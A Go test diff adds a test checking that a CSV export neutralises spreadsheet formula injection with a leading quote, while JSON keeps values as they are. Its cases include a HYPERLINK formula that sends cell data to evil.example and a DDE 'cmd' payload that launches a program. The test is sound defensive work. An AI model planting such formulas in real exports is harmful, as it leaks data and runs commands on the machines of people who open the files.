@@ -71,6 +71,62 @@ func TestCSV(t *testing.T) {
 	}
 }
 
+// TestCSVFormulas: text that a spreadsheet would take for a formula is written
+// with a leading quote; numbers, negative ones too, and other text as they are;
+// JSON keeps the values as they are.
+func TestCSVFormulas(t *testing.T) {
+	cases := []struct {
+		name  string
+		value any
+		want  string
+	}{
+		{"equals", `=HYPERLINK("http://evil.example/?d="&A1,"点此")`, `'=HYPERLINK("http://evil.example/?d="&A1,"点此")`},
+		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"minus", "-2+3", "'-2+3"},
+		{"at", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"tab", "\t=1+1", "'\t=1+1"},
+		// encoding/csv drops a lone CR when it writes CRLF lines: unquoted, this
+		// field would reach the file as =1+1
+		{"carriage return", "\r=1+1", "'=1+1"},
+		{"negative number as text", "-3.5", "'-3.5"},
+		{"formula sign inside", "A=B+C@D", "A=B+C@D"},
+		{"leading space", " =1", " =1"},
+		{"plain", "宜城街道停车场", "宜城街道停车场"},
+		{"empty", "", ""},
+		{"already quoted", "'=1", "'=1"},
+		{"negative float", -3.5, "-3.5"},
+		{"negative integer", int64(-2), "-2"},
+		{"null", nil, ""},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			tb := &Table{Columns: []string{"v", "n"}, Rows: [][]any{{c.value, int64(1)}}}
+			w := httptest.NewRecorder()
+			if err := Write(w, CSV, tb, ""); err != nil {
+				t.Fatal(err)
+			}
+			records, err := csv.NewReader(bytes.NewReader(w.Body.Bytes()[3:])).ReadAll()
+			if err != nil || len(records) != 2 {
+				t.Fatalf("records %q: %v", records, err)
+			}
+			if got := records[1][0]; got != c.want {
+				t.Errorf("CSV field %q, want %q", got, c.want)
+			}
+			w = httptest.NewRecorder()
+			if err := Write(w, JSON, tb, ""); err != nil {
+				t.Fatal(err)
+			}
+			var doc struct{ Rows []map[string]json.RawMessage }
+			if err := json.Unmarshal(w.Body.Bytes(), &doc); err != nil || len(doc.Rows) != 1 {
+				t.Fatalf("JSON %s: %v", w.Body, err)
+			}
+			if want, _ := json.Marshal(c.value); string(doc.Rows[0]["v"]) != string(want) {
+				t.Errorf("JSON value %s, want %s", doc.Rows[0]["v"], want)
+			}
+		})
+	}
+}
+
 func TestJSON(t *testing.T) {
 	w := write(t, JSON)
 	want := `{"report":"areas","rows":[` +
